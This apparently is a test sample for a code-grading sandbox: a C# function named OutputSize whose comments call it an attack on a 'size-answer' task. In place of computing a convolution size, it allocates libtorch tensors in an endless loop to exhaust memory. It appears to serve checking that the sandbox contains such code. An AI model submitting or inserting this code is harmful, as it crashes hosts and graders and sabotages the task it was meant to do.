// target: size-answer
// attack: lets libtorch take memory without end
// the sandbox stops it too
int OutputSize(int input, int kernel, int stride, int padding)
{
    var all = new List<Tensor>(); while (true) all.Add(torch.ones(1 << 22));
    return 0;
}
